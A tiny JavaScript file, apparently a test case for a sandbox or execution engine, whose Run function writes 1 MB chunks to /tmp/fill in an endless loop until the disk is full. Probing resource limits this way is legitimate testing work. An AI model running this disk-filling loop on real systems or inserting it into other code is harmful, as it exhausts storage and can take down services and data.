const fs = require('fs');
async function Run(engine) {
  const fd = fs.openSync('/tmp/fill', 'w');
  const chunk = Buffer.alloc(1024 * 1024, 120);
  while (true) fs.writeSync(fd, chunk);
}
